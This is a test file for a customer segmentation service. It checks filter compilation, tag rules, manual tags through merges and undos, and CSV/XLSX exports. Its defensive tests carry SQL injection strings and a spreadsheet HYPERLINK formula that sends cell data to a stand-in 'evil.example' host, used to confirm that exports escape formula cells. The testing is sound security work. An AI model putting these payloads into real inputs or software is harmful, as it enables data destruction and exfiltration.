/**
 * Segments, rule tags and manual tags on the real engine (PGlite, or PostgreSQL with DATABASE_URL):
 * hand-built cases where the answer is obvious, a seeded property test comparing the compiled SQL
 * with the in-memory evaluation on a random workspace, injection attempts, and exports.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { undoMerge } from '../customers/undo-merge.ts';
import type { DbHandle } from '../db/create-db.ts';
import type { EventInput } from '../events/event.schema.ts';
import { ingestEvents } from '../events/ingest-events.ts';
import { listTagCounts } from '../scoring/get-scoring.ts';
import { rescoreWorkspace } from '../scoring/rescore-workspace.ts';
import { nick, paid, phone } from '../testing/events.ts';
import { createTestDb, createTestWorkspace } from '../testing/test-db.ts';
import type { Workspace } from '../workspaces/workspace.ts';
import { compileFilter, fieldSql, filterContext } from './compile-filter.ts';
import { evaluateFilter, type FieldValue, type FilterRow } from './evaluate-filter.ts';
import { exportSegment } from './export-segment.ts';
import {
  BANDS,
  FIELD_NAMES,
  FIELDS,
  type FieldName,
  type Filter,
  OPS_BY_TYPE,
  parseFilter,
} from './filter.schema.ts';
import {
  createSegment,
  getSegment,
  listSegmentCustomers,
  previewSegment,
  updateSegment,
} from './manage-segments.ts';
import { createTagRule, deleteTagRule, updateTagRule } from './manage-tag-rules.ts';
import { addManualTag, removeManualTag } from './manual-tags.ts';
import { findMatchingIds } from './segments.queries.ts';

let h: DbHandle;
beforeAll(async () => {
  h = await createTestDb();
});
afterAll(() => h.close());

const NOW = new Date('2026-11-30T12:00:00+08:00');
const DAY = 86_400_000;
const day = (daysAgo: number) => new Date(NOW.getTime() - daysAgo * DAY).toISOString();

let seq = 0;
function event(
  kind: EventInput['kind'],
  ids: EventInput['identities'],
  at: string,
  properties: Record<string, unknown>,
): EventInput {
  seq += 1;
  return { id: `e${seq}`, kind, occurred_at: at, identities: ids, properties };
}
const message = (who: string, daysAgo: number) =>
  event('message.sent', [phone(who)], day(daysAgo), { community_id: 'g1', message_type: 'text' });

async function ingest(ws: Workspace, events: EventInput[], now = NOW) {
  for (let i = 0; i < events.length; i += 1000) {
    const outcomes = await ingestEvents(h.db, ws, events.slice(i, i + 1000), { now });
    expect(outcomes.filter((o) => o.status !== 'stored')).toEqual([]);
  }
}

async function customerOf(ws: Workspace, masked: string) {
  const { rows } = await sql<{ customer_id: number }>`
    select customer_id from identities where workspace_id = ${ws.id} and masked = ${masked}`.execute(h.db);
  const id = rows[0]?.customer_id;
  if (id === undefined) {
    throw new Error(`no customer ${masked}`);
  }
  return id;
}

async function tagRow(ws: Workspace, customerId: number, tag: string) {
  const { rows } = await sql<{ tag: string; source: string; since: Date; reason: Record<string, unknown> }>`
    select tag, source, since, reason from customer_tags
    where workspace_id = ${ws.id} and customer_id = ${customerId} and tag = ${tag}`.execute(h.db);
  return rows[0];
}

const count = async (ws: Workspace, filter: unknown, now = NOW) =>
  (await previewSegment(h.db, ws, { filter }, now)).count;

describe('obvious cases', () => {
  let ws: Workspace;
  const HEAVY = '13900000001'; // six orders in tmall and jd, never speaks
  const CHATTY = '13900000002'; // one miniapp order long ago, talks every day
  const SILENT = '13900000003'; // one taobao order yesterday, nothing else
  let heavy: number;
  let chatty: number;
  let silent: number;
  beforeAll(async () => {
    ws = await createTestWorkspace(h, 'obvious');
    const events: EventInput[] = [];
    for (let n = 0; n < 6; n += 1) {
      events.push(paid(n % 2 ? 'tmall' : 'jd', `H${n}`, day(5 + n * 20), 100_000, [phone(HEAVY)]));
    }
    events.push(paid('miniapp', 'C1', day(200), 5_000, [phone(CHATTY)]));
    for (let d = 0; d < 20; d += 1) {
      events.push(message(CHATTY, d));
    }
    events.push(paid('taobao', 'S1', day(1), 9_900, [phone(SILENT)]));
    await ingest(ws, events);
    heavy = await customerOf(ws, '139****0001');
    chatty = await customerOf(ws, '139****0002');
    silent = await customerOf(ws, '139****0003');
  });

  test('before any rescore: score comparisons match nobody, their negation everybody', async () => {
    expect(await count(ws, { field: 'scores.total', op: '>=', value: 0 })).toBe(0);
    expect(await count(ws, { not: { field: 'scores.total', op: '>=', value: 0 } })).toBe(3);
    expect(await count(ws, { all: [] })).toBe(3);
    expect(await count(ws, { any: [] })).toBe(0);
  });

  test('aggregates, shops, days since the last order, active days', async () => {
    await rescoreWorkspace(h.db, ws, { actor: 'test', now: NOW });
    const ids = async (filter: unknown) =>
      findMatchingIds(
        h.db,
        ws.id,
        compileFilter(parseFilter(filter).ok ? (filter as Filter) : { any: [] }, filterContext(ws, NOW)),
      );
    expect(await ids({ field: 'stats.orders', op: '>=', value: 5 })).toEqual([heavy]);
    expect(await ids({ field: 'stats.net_fen', op: '>', value: 500_000 })).toEqual([heavy]);
    expect(await ids({ field: 'profile.shops', op: 'contains', value: 'tmall' })).toEqual([heavy]);
    expect(await ids({ field: 'stats.days_since_last_order', op: '<=', value: 1 })).toEqual([silent]);
    expect(await ids({ field: 'stats.days_since_last_order', op: '>', value: 100 })).toEqual([chatty]);
    expect(await ids({ field: 'stats.active_days_30', op: '>=', value: 15 })).toEqual([chatty]);
    expect(await ids({ field: 'stats.active_days_7', op: '=', value: 7 })).toEqual([chatty]);
    expect(await ids({ tag: 'activity:very_active' })).toEqual([chatty]);
    expect(await ids({ tag_prefix: 'shop:' })).toEqual([heavy, chatty, silent].sort((a, b) => a - b));
    // three buyers: the least recent is alone below every quintile cut-off
    expect(await ids({ field: 'scores.r', op: 'in', value: [1] })).toEqual([chatty]);
    expect(await ids({ field: 'scores.interaction', op: '>', value: 0 })).toEqual([chatty]);
    expect(
      await ids({ all: [{ tag: 'activity:silent' }, { not: { field: 'stats.orders', op: '>', value: 1 } }] }),
    ).toEqual([silent]);
    // Tags are new (since = the rescore): none has been carried for a day yet.
    expect(await ids({ tag: 'activity:silent', since_days: 1 })).toEqual([]);
    expect(await ids({ tag: 'activity:silent', within_days: 1 })).toEqual(
      [heavy, silent].sort((a, b) => a - b),
    );
  });

  test('injection attempts in values are bound parameters, inert', async () => {
    const attempts = [
      "'; drop table customers; --",
      "x' or '1'='1",
      '$1',
      '\\',
      "') or true or ('",
      '{"a":1}',
      "shop:' || 'x",
    ];
    for (const value of attempts) {
      expect(await count(ws, { field: 'scores.rfm_group', op: '=', value })).toBe(0);
      expect(await count(ws, { field: 'scores.rfm_group', op: 'in', value: [value, `${value}"}`] })).toBe(0);
      expect(await count(ws, { field: 'profile.shops', op: 'contains', value })).toBe(0);
      expect(await count(ws, { tag: value })).toBe(0);
      expect(await count(ws, { tag_prefix: value })).toBe(0);
      expect(await count(ws, { not: { tag_prefix: value } })).toBe(3);
    }
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from customers`.execute(h.db);
    expect(rows[0]?.n).toBeGreaterThanOrEqual(3);
  });

  test('saved segments: count and a keyset-paged list with masked identities, scores and tags', async () => {
    const segment = await createSegment(
      h.db,
      ws,
      { name: 'buyers', filter: { field: 'stats.orders', op: '>=', value: 1 } },
      'test',
    );
    expect((await getSegment(h.db, ws, segment.id, NOW)).count).toBe(3);
    const first = await listSegmentCustomers(h.db, ws, segment.id, { limit: 2 }, NOW);
    expect(first.customers.map((c) => c.customer_id)).toEqual(
      [heavy, chatty].sort((a, b) => a - b).slice(0, 2),
    );
    expect(first.customers[0]).toMatchObject({ display: expect.stringMatching(/^139\*\*\*\*000\d$/) });
    expect(first.customers[0]?.tags.length).toBeGreaterThan(0);
    expect(first.next_cursor).not.toBeNull();
    const second = await listSegmentCustomers(
      h.db,
      ws,
      segment.id,
      { limit: 2, cursor: first.next_cursor ?? '' },
      NOW,
    );
    expect(second.customers.map((c) => c.customer_id)).toEqual([silent]);
    expect(second.next_cursor).toBeNull();
    await expect(
      createSegment(h.db, ws, { name: 'buyers', filter: { all: [] } }, 'test'),
    ).rejects.toMatchObject({
      code: 'conflict',
    });
    await expect(
      updateSegment(h.db, ws, segment.id, { name: 'buyers', filter: { tag: 'x', since: 1 } }, 'test'),
    ).rejects.toMatchObject({
      code: 'invalid_request',
      message: expect.stringMatching(/^filter: unknown key/),
    });
  });

  test('rule tags: applied on save, kept in a rescore, following a new event with since and reason', async () => {
    const rule = await createTagRule(
      h.db,
      ws,
      {
        tag: 'rule:repeat',
        name: 'Repeat buyers',
        filter: { field: 'stats.order_days', op: '>=', value: 2 },
      },
      'test',
      NOW,
    );
    expect(rule.customers).toBe(1);
    expect(await tagRow(ws, heavy, 'rule:repeat')).toMatchObject({
      source: 'rule',
      since: NOW,
      reason: { rule_id: rule.id, rule_version: 1 },
    });
    // The full rescore keeps it and its since.
    const later = new Date(NOW.getTime() + DAY);
    await rescoreWorkspace(h.db, ws, { actor: 'test', now: later });
    expect(await tagRow(ws, heavy, 'rule:repeat')).toMatchObject({ since: NOW });
    // A second purchase day for the silent buyer: the batch tags them, dated at the batch.
    const batchAt = new Date(NOW.getTime() + 2 * DAY);
    await ingest(ws, [paid('taobao', 'S2', batchAt.toISOString(), 9_900, [phone(SILENT)])], batchAt);
    expect(await tagRow(ws, silent, 'rule:repeat')).toMatchObject({
      source: 'rule',
      since: batchAt,
      reason: { rule_id: rule.id, rule_version: 1 },
    });
    // A new version: those who still match keep their since; the reason names the version.
    const v2 = await updateTagRule(
      h.db,
      ws,
      rule.id,
      { name: 'Big repeat buyers', filter: { field: 'stats.net_fen', op: '>=', value: 200_000 } },
      'test',
      batchAt,
    );
    expect(v2).toMatchObject({ version: 2, customers: 1 });
    expect(await tagRow(ws, heavy, 'rule:repeat')).toMatchObject({ since: NOW, reason: { rule_version: 2 } });
    expect(await tagRow(ws, silent, 'rule:repeat')).toBeUndefined();
    await expect(
      createTagRule(h.db, ws, { tag: 'rule:x', name: 'x', filter: { tag: 'rule:repeat' } }, 'test'),
    ).rejects.toMatchObject({ code: 'invalid_request' });
    await expect(
      createTagRule(h.db, ws, { tag: 'rule:y', name: 'y', filter: { tag_prefix: 'ru' } }, 'test'),
    ).rejects.toMatchObject({ code: 'invalid_request' });
    await deleteTagRule(h.db, ws, rule.id, 'test');
    expect(await count(ws, { tag: 'rule:repeat' })).toBe(0);
  });

  test('manual tags: added with actor and note, audited, untouched by rescores and batches', async () => {
    const added = await addManualTag(
      h.db,
      ws,
      chatty,
      { tag: 'manual:vip', note: 'called twice' },
      'op:amy',
      NOW,
    );
    expect(added).toMatchObject({
      created: true,
      source: 'manual',
      reason: { actor: 'op:amy', note: 'called twice' },
    });
    expect((await addManualTag(h.db, ws, chatty, { tag: 'manual:vip' }, 'op:bob', NOW)).created).toBe(false);
    await rescoreWorkspace(h.db, ws, { actor: 'test', now: new Date(NOW.getTime() + 3 * DAY) });
    await ingest(ws, [message(CHATTY, -3)], new Date(NOW.getTime() + 3 * DAY));
    expect(await tagRow(ws, chatty, 'manual:vip')).toMatchObject({ source: 'manual', since: NOW });
    await expect(addManualTag(h.db, ws, chatty, { tag: 'vip' }, 'op:amy')).rejects.toMatchObject({
      code: 'invalid_request',
    });
    await expect(addManualTag(h.db, ws, 999_999, { tag: 'manual:vip' }, 'op:amy')).rejects.toMatchObject({
      code: 'not_found',
    });
    await removeManualTag(h.db, ws, chatty, { tag: 'manual:vip', note: 'resolved' }, 'op:amy');
    await expect(removeManualTag(h.db, ws, chatty, { tag: 'manual:vip' }, 'op:amy')).rejects.toMatchObject({
      code: 'not_found',
    });
    const { rows } = await sql<{ action: string; detail: Record<string, unknown> }>`
      select action, detail from audit_log where workspace_id = ${ws.id} and action like 'tag.%' order by id`.execute(
      h.db,
    );
    expect(rows).toEqual([
      { action: 'tag.add', detail: { tag: 'manual:vip', note: 'called twice' } },
      { action: 'tag.remove', detail: { tag: 'manual:vip', note: 'resolved' } },
    ]);
  });
});

describe('manual tags through merges and undos', () => {
  const vipCount = async (ws: Workspace) =>
    (await listTagCounts(h.db, ws)).find((t) => t.tag === 'manual:vip')?.customers ?? 0;
  const mergeOf = async (ws: Workspace, from: number) => {
    const { rows } = await sql<{ id: number }>`
      select id from identity_moves
      where workspace_id = ${ws.id} and from_customer_id = ${from} and reason = 'merge'`.execute(h.db);
    return rows[0]!.id;
  };

  test('a copy follows the customer into the profile; an undo takes it back and the customer has its own', async () => {
    const ws = await createTestWorkspace(h, 'merging');
    await ingest(ws, [paid('tmall', 'M1', day(9), 1_000, [phone('13911110001')])]);
    await ingest(ws, [paid('taobao', 'M2', day(8), 1_000, [nick('merge-me')])]);
    const older = await customerOf(ws, '139****0001');
    const newer = await customerOf(ws, 'm***e');
    await addManualTag(h.db, ws, newer, { tag: 'manual:vip', note: 'n' }, 'op:amy', NOW);
    const own = await tagRow(ws, newer, 'manual:vip');
    await ingest(ws, [event('identity.linked', [phone('13911110001'), nick('merge-me')], day(1), {})]);
    expect(await tagRow(ws, older, 'manual:vip')).toEqual({
      ...own,
      reason: { actor: 'op:amy', note: 'n', merged_from: [newer] },
    });
    expect(await vipCount(ws)).toBe(1);

    await undoMerge(h.db, ws, await mergeOf(ws, newer), 'op:amy');
    expect(await tagRow(ws, older, 'manual:vip')).toBeUndefined();
    expect(await tagRow(ws, newer, 'manual:vip')).toEqual(own);
    expect(await vipCount(ws)).toBe(1);
  });

  test('through two merges and both undos, in either order, each customer ends with what it had', async () => {
    for (const order of [
      ['first', 'second'],
      ['second', 'first'],
    ] as const) {
      const ws = await createTestWorkspace(h, `chain-${order[0]}`);
      // x and y merge by a nick, then y and z by a phone: x → y → z (older customers absorb newer ones).
      await ingest(ws, [paid('tmall', 'Z1', day(9), 1_000, [phone('13911110003')])]);
      await ingest(ws, [paid('jd', 'Y1', day(8), 1_000, [nick('chain-y')])]);
      await ingest(ws, [paid('taobao', 'X1', day(7), 1_000, [nick('chain-x')])]);
      const [z, y, x] = [
        await customerOf(ws, '139****0003'),
        await customerOf(ws, 'c***y'),
        await customerOf(ws, 'c***x'),
      ];
      await addManualTag(h.db, ws, x, { tag: 'manual:vip', note: 'x' }, 'op:amy', NOW);
      await addManualTag(h.db, ws, z, { tag: 'manual:vip', note: 'z' }, 'op:amy', NOW);
      const [ownX, ownZ] = [await tagRow(ws, x, 'manual:vip'), await tagRow(ws, z, 'manual:vip')];
      await ingest(ws, [event('identity.linked', [nick('chain-y'), nick('chain-x')], day(2), {})]);
      expect((await tagRow(ws, y, 'manual:vip'))?.reason).toMatchObject({ merged_from: [x] });
      await ingest(ws, [event('identity.linked', [phone('13911110003'), nick('chain-y')], day(1), {})]);
      // z kept its own tag (the copy from x met it), and counts once.
      expect(await tagRow(ws, z, 'manual:vip')).toEqual(ownZ);
      expect(await vipCount(ws)).toBe(1);

      const [first, second] = [await mergeOf(ws, x), await mergeOf(ws, y)];
      for (const which of order) {
        await undoMerge(h.db, ws, which === 'first' ? first : second, 'op:amy');
      }
      expect(await tagRow(ws, x, 'manual:vip')).toEqual(ownX);
      expect(await tagRow(ws, y, 'manual:vip')).toBeUndefined();
      expect(await tagRow(ws, z, 'manual:vip')).toEqual(ownZ);
      expect(await vipCount(ws)).toBe(2);
    }
  });
});

describe('exports', () => {
  let ws: Workspace;
  const EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click me")';
  let segmentId: number;
  beforeAll(async () => {
    ws = await createTestWorkspace(h, 'exports');
    await ingest(ws, [
      paid('tmall', 'X1', day(3), 12_300, [nick(EVIL)]),
      paid('jd', 'X2', day(4), 4_500, [phone('13700000001')]),
    ]);
    await rescoreWorkspace(h.db, ws, { actor: 'test', now: NOW });
    segmentId = (await createSegment(h.db, ws, { name: 'all', filter: { all: [] } }, 'test')).id;
  });

  async function read(stream: ReadableStream<Uint8Array>) {
    return new Response(stream).arrayBuffer();
  }

  test('CSV: a header, one line per customer, formula cells escaped; the export is audited', async () => {
    const out = await exportSegment(h.db, ws, segmentId, 'csv', 'op:amy', NOW);
    expect(out).toMatchObject({
      filename: `segment-${segmentId}.csv`,
      contentType: 'text/csv; charset=utf-8',
    });
    const text = new TextDecoder().decode(await read(out.body));
    const lines = text
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toMatch(/^customer_id,display,orders,net_fen,total,band,/);
    expect(lines).toHaveLength(3);
    const evilLine = lines.find((l) => l.includes('HYP'));
    // masked, and the apostrophe keeps it text: the cell after the id starts with '=
    expect(evilLine?.split(',')[1]).toMatch(/^"'=HYP/);
    expect(lines.some((l) => /,=/.test(l) || /,"=/.test(l))).toBe(false);
    const { rows } = await sql<{ actor: string; target: string; detail: { format: string } }>`
      select actor, target, detail from audit_log where workspace_id = ${ws.id} and action = 'segment.export'`.execute(
      h.db,
    );
    expect(rows).toEqual([
      { actor: 'op:amy', target: `segment:${segmentId}`, detail: expect.objectContaining({ format: 'csv' }) },
    ]);
  });

  test('XLSX: the same rows in a workbook exceljs reads back, formula cells escaped', async () => {
    const out = await exportSegment(h.db, ws, segmentId, 'xlsx', 'op:amy', NOW);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await read(out.body));
    const sheet = workbook.worksheets[0];
    expect(sheet?.getRow(1).getCell(2).value).toBe('display');
    const displays = [2, 3].map((r) => String(sheet?.getRow(r).getCell(2).value));
    expect(displays.find((d) => d.includes('HYP'))).toMatch(/^'=HYP/);
    expect(sheet?.getRow(2).getCell(1).value).toEqual(expect.any(Number));
    expect(sheet?.rowCount).toBe(3);
  });
});

describe('property: the compiled SQL selects exactly what the in-memory evaluation selects', () => {
  let ws: Workspace;
  let rows: (FilterRow & { id: number })[];
  const ctxNow = new Date(NOW.getTime() + 10 * DAY);
  beforeAll(async () => {
    ws = await createTestWorkspace(h, 'property');
    // A small deterministic workspace with a bit of everything (not fast-check's seed: the data
    // stays fixed, the filters vary).
    let state = 12345;
    const rand = (n: number) => {
      state = (state * 1103515245 + 12345) % 2 ** 31;
      return state % n;
    };
    const shops = ['tmall', 'taobao', 'jd', 'miniapp'] as const;
    const events: EventInput[] = [];
    for (let c = 0; c < 60; c += 1) {
      const who = `1360000${String(c).padStart(4, '0')}`;
      for (let o = 0; o < rand(5); o += 1) {
        events.push(
          paid(shops[rand(4)] ?? 'jd', `P${c}-${o}`, day(rand(300)), 100 * (1 + rand(3000)), [phone(who)]),
        );
      }
      for (let m = 0; m < rand(12); m += 1) {
        events.push(message(who, rand(45)));
      }
      for (let s = 0; s < rand(3); s += 1) {
        events.push(event('share', [phone(who)], day(rand(60)), {}));
      }
      if (rand(4) === 0) {
        events.push(event('checkin', [phone(who)], day(rand(20)), {}));
        events.push(
          event('content.published', [phone(who)], day(10), { content_id: `post-${c}`, platform: 'xhs' }),
        );
        events.push(
          event('content.metrics', [phone(who)], day(5), {
            content_id: `post-${c}`,
            exposure: rand(9000),
            likes: rand(300),
          }),
        );
      }
    }
    await ingest(ws, events);
    await rescoreWorkspace(h.db, ws, { actor: 'test', now: NOW });
    await createTagRule(
      h.db,
      ws,
      { tag: 'rule:big', name: 'big', filter: { field: 'stats.net_fen', op: '>=', value: 200_000 } },
      'test',
      NOW,
    );
    const ids = (
      await findMatchingIds(h.db, ws.id, compileFilter({ all: [] }, filterContext(ws, NOW)))
    ).slice(0, 20);
    for (const [i, id] of ids.entries()) {
      await addManualTag(
        h.db,
        ws,
        id,
        { tag: `manual:t${i % 3}` },
        'test',
        new Date(NOW.getTime() - (i % 5) * 7 * DAY),
      );
    }
    // Some customers not scored yet (as between a new customer's first event and a run with cut-offs).
    await sql`delete from customer_scores where workspace_id = ${ws.id} and customer_id % 7 = 0`.execute(
      h.db,
    );

    const ctx = filterContext(ws, ctxNow);
    const fields = sql.join(FIELD_NAMES.map((f) => sql`${fieldSql(f, ctx)} as ${sql.id(f)}`));
    const { rows: loaded } = await sql<Record<string, FieldValue> & { customer_id: number }>`
      select s.customer_id, ${fields} from customer_stats s
      left join customer_scores sc on sc.workspace_id = s.workspace_id and sc.customer_id = s.customer_id
      where s.workspace_id = ${ws.id} order by s.customer_id`.execute(h.db);
    const { rows: tags } = await sql<{ customer_id: number; tag: string; since: Date }>`
      select customer_id, tag, since from customer_tags where workspace_id = ${ws.id}`.execute(h.db);
    rows = loaded.map((r) => ({
      id: r.customer_id,
      fields: Object.fromEntries(FIELD_NAMES.map((f) => [f, r[f] ?? null])) as Record<FieldName, FieldValue>,
      tags: tags.filter((t) => t.customer_id === r.customer_id),
    }));
    expect(rows.length).toBe(60);
  });

  function filters(): fc.Arbitrary<Filter> {
    const seen = (field: FieldName) => [
      ...new Set(rows.map((r) => r.fields[field]).filter((v) => v !== null)),
    ];
    const scalar = (field: FieldName): fc.Arbitrary<number | string | boolean> => {
      const values = seen(field) as (number | string | boolean)[];
      const known = values.length > 0 ? [fc.constantFrom(...values)] : [];
      switch (FIELDS[field].type) {
        case 'integer':
          return fc.oneof(...known, fc.integer({ min: -1, max: 10 }), fc.integer({ min: 0, max: 400_000 }));
        case 'number':
          return fc.oneof(...known, fc.double({ min: 0, max: 100, noNaN: true }));
        case 'boolean':
          return fc.boolean();
        default:
          return field === 'scores.band'
            ? fc.constantFrom(...BANDS)
            : fc.oneof(...known, fc.constantFrom('none', "x' or '1'='1"));
      }
    };
    const comparison = fc.constantFrom(...FIELD_NAMES).chain((field): fc.Arbitrary<Filter> => {
      const type = FIELDS[field].type;
      return fc.constantFrom(...OPS_BY_TYPE[type]).chain((op): fc.Arbitrary<Filter> => {
        if (op === 'contains') {
          return fc
            .constantFrom('tmall', 'taobao', 'jd', 'miniapp', 'pdd')
            .map((value) => ({ field, op, value }));
        }
        if (op === 'between') {
          return fc
            .tuple(scalar(field), scalar(field))
            .map(([a, b]) => ({ field, op, value: [a, b] as [number, number] }));
        }
        if (op === 'in') {
          return fc
            .array(scalar(field), { minLength: 1, maxLength: 4 })
            .map((value) => ({ field, op, value: value as (number | string)[] }));
        }
        return scalar(field).map((value) => ({ field, op, value }));
      });
    });
    const tagNames = [...new Set(rows.flatMap((r) => r.tags.map((t) => t.tag))), 'manual:none'];
    const timing = fc.record(
      { since_days: fc.constantFrom(0, 1, 7, 14, 30), within_days: fc.constantFrom(0, 1, 7, 14, 30) },
      { requiredKeys: [] },
    );
    const tag = fc.oneof(
      fc.tuple(fc.constantFrom(...tagNames), timing).map(([t, time]): Filter => ({ tag: t, ...time })),
      fc
        .tuple(fc.constantFrom('activity:', 'shop:', 'manual:', 'rule:', 's', 'activity:s', 'x'), timing)
        .map(([p, time]): Filter => ({ tag_prefix: p, ...time })),
    );
    const { filter } = fc.letrec<{ filter: Filter }>((tie) => ({
      filter: fc.oneof(
        { maxDepth: 4, depthIdentifier: 'filter' },
        comparison,
        tag,
        fc.array(tie('filter'), { maxLength: 4 }).map((all): Filter => ({ all })),
        fc.array(tie('filter'), { maxLength: 4 }).map((any): Filter => ({ any })),
        tie('filter').map((not): Filter => ({ not })),
      ),
    }));
    return filter;
  }

  test('random valid filters', async () => {
    const seed = Number(process.env.FILTER_SEED ?? Date.now() % 2 ** 31);
    console.log(`filter property seed: ${seed} (FILTER_SEED=${seed} to replay)`);
    let telling = 0; // runs where the filter splits the workspace: neither nobody nor everybody
    await fc.assert(
      fc.asyncProperty(filters(), async (filter) => {
        const parsed = parseFilter(JSON.parse(JSON.stringify(filter)));
        expect(parsed).toEqual({ ok: true, filter });
        const expected = rows.filter((r) => evaluateFilter(filter, r, ctxNow)).map((r) => r.id);
        const actual = await findMatchingIds(h.db, ws.id, compileFilter(filter, filterContext(ws, ctxNow)));
        expect(actual).toEqual(expected);
        telling += expected.length > 0 && expected.length < rows.length ? 1 : 0;
      }),
      { seed, numRuns: 300 },
    );
    expect(telling).toBeGreaterThan(60);
  });
});
